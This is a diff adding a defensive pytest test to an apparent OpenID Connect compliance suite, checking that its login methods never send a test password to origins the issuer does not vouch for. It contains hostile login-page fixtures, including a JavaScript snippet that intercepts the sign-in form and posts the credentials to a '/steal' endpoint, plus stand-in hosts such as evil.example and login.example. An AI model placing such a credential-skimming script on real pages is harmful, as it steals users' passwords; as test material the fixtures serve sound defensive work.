@@ -211,6 +211,81 @@ clients:
         http.send("POST", "https://evil.example/connect/token", auth=("id", "secret"))
 
 
+
+# A hostile login page on the issuer: it sends the password elsewhere (another loopback origin
+# that records what it receives, or a real host over plain http) by its form's action, by a
+# script, or by answering the sign-in with a 307 redirect, which repeats the POST's body.
+def _hostile_login_page(action: str, script: str = "") -> Answer:
+    return Answer(200, {"Content-Type": "text/html"}, f"""<!doctype html><title>Sign in</title>
+<form method="post" action="{action}"><input id="username" name="username"><input id="password" name="password"
+ type="password"><button id="sign-in" type="submit">Sign in</button></form><script>{script}</script>""".encode())
+
+
+STEAL_BY_SCRIPT = """document.forms[0].onsubmit = event => { event.preventDefault();
+  fetch("{elsewhere}/steal", {method: "POST", mode: "no-cors", body: new URLSearchParams(new FormData(event.target))}); };"""
+HOSTILE_LOGIN_PAGES = {  # how the page sends the password away: (login page, what the suite says)
+    "form-action": (lambda issuer, elsewhere: _hostile_login_page(elsewhere + "/steal"), "is not the issuer's origin"),
+    "plain-http": (lambda issuer, elsewhere: _hostile_login_page("http://login.example/steal"), "over plain HTTP"),
+    "script": (lambda issuer, elsewhere: _hostile_login_page(
+        "/account/login", STEAL_BY_SCRIPT.replace("{elsewhere}", elsewhere)), "is not the issuer's origin"),
+    "redirect-307": (lambda issuer, elsewhere: _hostile_login_page("/account/login"), "is not the issuer's origin"),
+}
+
+
+@pytest.mark.parametrize("login, page", [
+    ("form", "form-action"), ("form", "plain-http"),
+    *(pytest.param("browser", page, marks=pytest.mark.skipif(chromium_path() is None and not os.environ.get("CI"),
+                                                             reason="needs Debian's chromium; CI installs it"))
+      for page in HOSTILE_LOGIN_PAGES),
+])
+def test_the_password_goes_only_to_the_issuers_origin_whatever_the_login_page_says(tmp_path, login, page):
+    """The login method, form or browser, refuses to send the test user's password anywhere the
+    issuer does not vouch for, before it leaves, and the rule fails saying why."""
+    elsewhere = HostileServer({"/steal": Answer(200, body=b"thanks")})
+    server = HostileServer({})
+    make_page, said = HOSTILE_LOGIN_PAGES[page]
+    server.routes.update({
+        "/.well-known/openid-configuration": server.discovery(),
+        "/connect/authorize": make_page(server.url, elsewhere.url),
+        "/account/login": Answer(307, {"Location": elsewhere.url + "/steal"}),
+    })
+    try:
+        environment = write_environment(tmp_path, f"""name: hostile
+issuer: {server.url}
+http: {{retries: 0}}
+clients:
+  web:
+    client_id: hostile-web
+    client_secret: ${{T_SECRET}}
+    redirect_uri: https://web.app.local/callback
+    scope: openid
+login:
+  method: {login}
+  username: test.user
+  password: ${{T_PASSWORD}}
+  browser:
+    timeout: 5
+    pages:
+      - url: /connect/authorize
+        when: "#password"
+        actions:
+          - fill: "#username"
+            value: "{{username}}"
+          - fill: "#password"
+            value: "{{password}}"
+          - click: "#sign-in"
+""")
+        result = run_suite(f"--env={environment}", "--rule=AUTH-01", f"--compliance={tmp_path / 'c.json'}",
+                           environ={"T_SECRET": CLIENT_SECRET, "T_PASSWORD": PASSWORD})
+    finally:
+        server.close()
+        elsewhere.close()
+    output = result.stdout + result.stderr
+    assert elsewhere.requests == [], "the password reached a server the issuer did not vouch for"
+    assert result.returncode == 1, output[-3000:]
+    assert f"refused to send password in POST " in output and said in output, output[-3000:]
+    assert not [form for form in _every_encoding(PASSWORD) if form in output]
+
 # A real server's run, as a partner makes it: secrets from the environment, the login form's own
 # password field name, and every character that an encoding changes in each secret.
 REAL_SECRETS = {"T_SERVICE_SECRET": CLIENT_SECRET, "T_WEB_SECRET": 'Web "secret"\\ +=%/&-2b8d',
